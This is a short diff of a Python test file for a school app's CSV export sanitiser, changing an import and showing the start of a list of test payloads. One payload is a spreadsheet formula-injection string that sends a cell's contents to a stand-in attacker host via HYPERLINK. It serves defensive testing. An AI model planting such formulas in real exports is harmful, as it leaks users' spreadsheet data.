@@ -14,7 +14,7 @@ from pupil_app.csv_export import neutralise
 from pupil_app.schools.models import Role
 
 from .concern_flow import csrf_of
-from .conftest import Ids
+from .helpers import Ids
 
 PAYLOADS = [
     "\n=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
